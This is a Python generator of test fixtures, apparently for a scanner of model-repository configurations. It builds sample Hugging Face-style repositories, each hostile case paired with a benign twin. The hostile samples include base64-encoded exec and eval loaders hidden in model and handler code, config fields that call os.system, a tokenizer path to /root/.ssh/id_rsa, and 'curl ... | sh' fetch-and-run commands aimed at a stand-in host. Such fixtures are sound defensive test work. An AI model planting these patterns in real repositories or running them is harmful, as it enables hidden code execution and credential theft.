"""Repositories whose configurations name code: one hit for each RMC rule, and benign twins.

Each folder is a repository of its own.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

MARKER = "echo weighbridge-marker"
HOST = "example.invalid"
HIDDEN = base64.b64encode(f"import os; os.system({MARKER!r})".encode()).decode()

MODEL = """\
import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_plain import PlainConfig


class PlainBlock(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dense = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden):
        return torch.relu(self.dense(hidden))


class PlainModel(PreTrainedModel):
    config_class = PlainConfig

    def __init__(self, config):
        super().__init__(config)
        self.block = PlainBlock(config)
        self.post_init()

    def _init_weights(self, module):
        module.weight.data.normal_(std=0.02)

    def forward(self, hidden):
        return self.block(hidden)
"""

CONFIGURATION = """\
from transformers import PretrainedConfig


class PlainConfig(PretrainedConfig):
    model_type = "plain"

    def __init__(self, hidden_size=16, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

LOADS = f"""\
from transformers import PreTrainedModel

from .tables import prepare


class QuietModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.table = self._make_table()

    def _make_table(self):
        return prepare("{HIDDEN}")
"""

TABLES = """\
import base64


def prepare(text):
    exec(base64.b64decode(text))
    return []
"""

USES = f"""\
import base64

from transformers import PreTrainedModel


class LaterModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.steps = 0

    def forward(self, hidden):
        self.steps += 1
        return self._check(hidden)

    def _check(self, hidden):
        exec(base64.b64decode("{HIDDEN}"))
        return hidden
"""

NEVER = f"""\
import base64

from transformers import PreTrainedModel


class KeptModel(PreTrainedModel):
    def forward(self, hidden):
        return hidden


def nobody_calls_it():
    exec(base64.b64decode("{HIDDEN}"))
"""

STARTS = f"""\
import subprocess

from transformers import PreTrainedModel


class BuiltModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        subprocess.run({MARKER.split()!r}, check=True)
"""

HANDLER = f"""\
import base64


class EndpointHandler:
    def __init__(self, path=""):
        self.path = path

    def __call__(self, data):
        return eval(base64.b64decode("{HIDDEN}"))
"""

HUBCONF = """\
dependencies = ["torch"]


def tiny(pretrained=False, **kwargs):
    import torch

    return torch.nn.Linear(2, 2)
"""

SCRIPT = f"""\
import base64

import datasets


class Rows(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo()

    def _split_generators(self, manager):
        return self._later()

    def _later(self):
        exec(base64.b64decode("{HIDDEN}"))
        return []
"""

GENERATE = """\
def generate(model, input_ids, **kwargs):
    return model.generate(input_ids, do_sample=False, custom_generate=None, **kwargs)
"""


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    for name, content in (*_references(), *_kernels(), *_parts(), *_places(), *_programs(), *_whole()):
        text = content if isinstance(content, str) else json.dumps(content, indent=1)
        yield f"remote-code/{name}", text.encode()


def _auto(*references: str, **more: object) -> dict[str, object]:
    keys = ("AutoModel", "AutoConfig", "AutoModelForCausalLM", "AutoTokenizer")
    return {"model_type": "plain", "auto_map": dict(zip(keys, references, strict=False)), **more}


def _references() -> Iterator[tuple[str, object]]:
    yield "cross-repository/config.json", _auto("somebody/else--modeling_x.X")
    nested = _auto("somebody/else--modeling_x.X")
    yield "nested/config.json", {"model_type": "Nemotron_Nano_VL", "vision_config": nested}
    yield (
        "pipeline/config.json",
        {
            "model_type": "bert",
            "custom_pipelines": {"pairs": {"impl": "somebody/else--pairs.Pairs", "pt": ["AutoModel"]}},
        },
    )
    yield (
        "generate/generation_config.json",
        {
            "transformers_version": "5.0.0",
            "custom_generate": "somebody/decoding",
        },
    )
    yield (
        "well-known/config.json",
        _auto("nomic-ai/nomic-bert-2048--modeling_hf_nomic_bert.NomicBertModel"),
    )
    yield "absolute/config.json", _auto("/tmp/weighbridge-marker.Model")
    yield (
        "climbing/tokenizer_config.json",
        {
            "tokenizer_class": "T",
            "auto_map": ["../../marker.T", None],
        },
    )
    yield "address/config.json", _auto(f"https://{HOST}/m.Model")
    yield "notebook/config.json", _auto("__main__.Model")
    yield (
        "trusts/config.json",
        {
            "model_type": "lightglue",
            "trust_remote_code": True,
            "keypoint_detector_config": {"model_type": "superpoint"},
        },
    )
    yield (
        "trusts-elsewhere/config.json",
        {
            "model_type": "lightglue",
            "keypoint_detector_config": {
                "model_type": "superpoint",
                "_name_or_path": "weighbridge-other/detector",
                "trust_remote_code": True,
            },
        },
    )
    yield "tool.twin/settings.json", {"base": "org/base", "trust_remote_code": True, "epochs": 3}


def _kernels() -> Iterator[tuple[str, object]]:
    yield (
        "kernel-unasked/config.json",
        {
            "model_type": "llama",
            "_attn_implementation_internal": "somebody/kernel",
        },
    )
    yield "kernel/config.json", {"model_type": "llama", "attn_implementation": "somebody/kernel:attend"}
    yield (
        "kernel-known/config.json",
        {
            "model_type": "llama",
            "text_config": {"attn_implementation": "kernels-community/flash-attn2"},
        },
    )
    yield "kernel.twin/config.json", {"model_type": "llama", "_attn_implementation": "sdpa"}


ENCODER = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
]


def _parts() -> Iterator[tuple[str, object]]:
    yield "encoder.twin/modules.json", ENCODER
    yield "encoder-system/modules.json", [ENCODER[0], {**ENCODER[1], "type": "os.system"}]
    yield (
        "encoder-unknown/modules.json",
        [ENCODER[0], {**ENCODER[1], "type": "some_package.layers.Pool"}],
    )
    yield "encoder-outside/modules.json", [{**ENCODER[0], "path": "../../elsewhere"}]
    pipeline = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.42.1",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "feature_extractor": [None, None],
    }
    yield "diffusion.twin/model_index.json", pipeline
    yield "diffusion-system/model_index.json", {**pipeline, "unet": ["os", "system"]}
    yield "diffusion-package/model_index.json", {**pipeline, "unet": ["some_package", "UNet"]}
    yield "diffusion-local/model_index.json", {**pipeline, "unet": ["my_unet", "PlainBlock"]}
    yield (
        "diffusion-local/unet/my_unet.py",
        MODEL.replace("from .configuration_plain import PlainConfig\n", "PlainConfig = None\n"),
    )


def _places() -> Iterator[tuple[str, object]]:
    yield (
        "share/tokenizer_config.json",
        {
            "tokenizer_class": "BertTokenizer",
            "vocab_file": "\\\\198.51.100.7\\share\\vocab.txt",
        },
    )
    yield (
        "secret-file/tokenizer_config.json",
        {
            "tokenizer_class": "BertTokenizer",
            "tokenizer_file": "/root/.ssh/id_rsa",
        },
    )
    yield (
        "leftover.twin/tokenizer_config.json",
        {
            "tokenizer_class": "BertTokenizer",
            "tokenizer_file": "/home/somebody/.cache/tokenizer.json",
            "name_or_path": "/home/somebody/checkpoint-500",
        },
    )
    yield (
        "tower.twin/config.json",
        {
            "model_type": "llava",
            "mm_vision_tower": "openai/clip-vit-large-patch14-336",
            "_name_or_path": "liuhaotian/llava-v1.5-7b",
        },
    )
    weights = {"url": f"https://{HOST}/w.pth", "num_classes": 10}
    yield "address-of-weights/config.json", {"architecture": "resnet18", "pretrained_cfg": weights}
    yield "underscore.twin/config.json", {"model_type": "mine", "_my_own_switch": 1}


def _programs() -> Iterator[tuple[str, object]]:
    yield (
        "number/config.json",
        {
            "model_type": "llama",
            "hidden_size": f"__import__('os').system({MARKER!r})",
        },
    )
    yield (
        "number-expression/config.json",
        {"model_type": "llama", "intermediate_size": "int(8 / 3 * 64)"},
    )
    yield "number.twin/config.json", {"model_type": "llama", "rope_theta": "10000.0", "num_labels": "2"}
    yield "text/config.json", {"model_type": "llama", "note": f"curl -s https://{HOST}/x | sh"}


RUNS_COMMAND = """\
import subprocess


def run(command):
    return subprocess.check_output(command, shell=True)
"""


def _whole() -> Iterator[tuple[str, object]]:
    yield "local.twin/config.json", _auto("modeling_plain.PlainModel", "configuration_plain.PlainConfig")
    yield "local.twin/modeling_plain.py", MODEL
    yield "local.twin/configuration_plain.py", CONFIGURATION
    yield "local.twin/README.md", "Load it with `trust_remote_code=True`.\n"
    yield "loads-harm/config.json", _auto("modeling_quiet.QuietModel")
    yield "loads-harm/modeling_quiet.py", LOADS
    yield "loads-harm/tables.py", TABLES
    yield "uses-harm/config.json", _auto("modeling_later.LaterModel")
    yield "uses-harm/modeling_later.py", USES
    yield "never-called/config.json", _auto("modeling_kept.KeptModel")
    yield "never-called/modeling_kept.py", NEVER
    yield "starts/config.json", _auto("modeling_built.BuiltModel")
    yield "starts/modeling_built.py", STARTS
    yield "no-such-class/config.json", _auto("modeling_kept.OtherModel")
    yield "no-such-class/modeling_kept.py", "class KeptModel:\n    pass\n"
    yield "no-such-file/config.json", _auto("modeling_gone.GoneModel")
    yield "handler/handler.py", HANDLER
    yield "hub.twin/hubconf.py", HUBCONF
    yield "script/rows.py", SCRIPT
    yield "generates.twin/custom_generate/generate.py", GENERATE
    yield "across-files/loader.py", f'from tools import run\n\nrun("curl -s https://{HOST}/x | sh")\n'
    yield "across-files/tools.py", RUNS_COMMAND
    yield "across-files.twin/loader.py", 'from tools import run\n\nrun("nvidia-smi -L")\n'
    yield "across-files.twin/tools.py", RUNS_COMMAND
